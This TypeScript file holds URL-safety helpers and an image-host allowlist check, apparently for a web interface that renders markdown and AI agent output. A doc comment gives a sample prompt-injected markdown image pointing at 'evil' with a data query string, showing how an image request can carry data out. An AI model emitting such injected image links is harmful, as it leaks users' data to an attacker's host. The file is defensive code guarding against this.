/** Only http(s) URLs reach `src`/`href` attributes or `window.open`: never `javascript:` or `data:`. */
export function safeUrl(value: string): URL | undefined {
  try {
    const url = new URL(value, location.href);
    return url.protocol === 'https:' || url.protocol === 'http:' ? url : undefined;
  } catch {
    return undefined;
  }
}

/** `image-hosts` as written (`img.example, cdn.example:8443`): the hosts, without blanks. */
export const hostList = (text: string | null | undefined): string[] => text?.split(/[\s,]+/).filter(Boolean) ?? [];

/**
 * Whether an image at `url` may load: the one rule for markdown images and agent image blocks. An image is a
 * request to its host, so one from anywhere can carry data out (a prompt-injected `![](https://evil/?d=…)`):
 * by default only the page's own host may serve images, and `hosts` widens that. An entry `host` allows that
 * host on any port, `host:port` that port only (80 and 443 included for http and https), `*` every host.
 */
export function imageAllowed(url: string, hosts: readonly string[]): boolean {
  const image = safeUrl(url);
  if (!image) return false;
  const port = image.port || (image.protocol === 'https:' ? '443' : '80');
  return [location.host, ...hosts].some((entry) => {
    const host = entry.toLowerCase();
    return host === '*' || host === image.hostname || host === `${image.hostname}:${port}`;
  });
}
